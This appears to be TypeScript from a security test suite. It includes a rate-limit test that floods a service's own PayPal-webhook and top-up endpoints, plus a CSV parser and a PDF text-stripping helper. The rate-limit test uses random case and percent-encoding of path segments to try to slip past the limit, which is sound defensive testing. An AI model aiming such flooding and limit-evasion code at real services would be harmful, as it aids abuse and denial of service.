/** The addresses that anybody may call have a limit, and no second spelling gets round it. */
async function attackPublicLimit(attacker: Attacker): Promise<void> {
  const { record, random } = attacker;
  const most = 300;
  const spell = (text: string) =>
    [...text]
      .map((one) => {
        const other = random.pick([one, one.toUpperCase(), `%${one.charCodeAt(0).toString(16)}`]);
        return other;
      })
      .join("");
  const id = "01890000-0000-7000-8000-0123456789ab";
  const addresses: readonly (readonly [string, string, string])[] = [
    ["POST", "/v1/paypal-webhooks/", id],
    ["GET", "/v1/top-ups/return/", `${id}.${random.word(22)}`],
  ];
  for (const [method, path, name] of addresses) {
    await record.case(`more than ${most} requests a minute to one ${method} ${path}`, async (report) => {
      let taken = 0;
      let isTold = false;
      for (let done = 0; done < most * 3; done += 20) {
        const answers = await Promise.all(
          Array.from({ length: 20 }, async () =>
            attacker.call(report, {
              method,
              path: `${path}${spell(name)}?x=${random.word(5)}`,
              key: null,
              ...(method === "POST" ? { document: { event_type: "X", resource: {} } } : {}),
            }),
          ),
        );
        taken += answers.filter(({ status }) => status !== 429).length;
        isTold ||= answers.some(({ status, headers }) => status === 429 && Number(headers["retry-after"]) > 0);
      }
      // A new minute may begin meanwhile.
      if (taken > most * 2) report("accepted_bad", `${taken} were looked at`);
      if (!isTold) report("accepted_bad", "nobody was told when to come again");
    });
  }
}

/** Rows of RFC 4180, read as a spreadsheet reads them. */
function readCsv(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  let cell = "";
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? "";
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
      continue;
    }
    if (character === '"' && cell === "") isQuoted = true;
    else if (character === "," || text.startsWith("\r\n", at)) {
      rows.at(-1)?.push(cell);
      cell = "";
      if (character === ",") continue;
      rows.push([]);
      at += 1;
    } else cell += character;
  }
  return rows.slice(0, -1);
}

/** A PDF without the texts and the data in it: what a reader acts on. */
function markOf(pdf: string): string {
  const inflated = pdf.replace(/stream\r?\n([\s\S]*?)\r?\nendstream/g, (_, data: string) => {
    try {
      return inflateSync(Buffer.from(data, "latin1")).toString("latin1");
    } catch {
      return "";
    }
  });
  let mark = "";
  let depth = 0;
  for (let at = 0; at < inflated.length; at += 1) {
    const character = inflated[at] ?? "";
    if (character === "\\" && depth > 0) at += 1;
    else if (character === "(") depth += 1;
    else if (character === ")" && depth > 0) depth -= 1;
    else if (depth === 0) mark += character;
  }
  return mark;
}
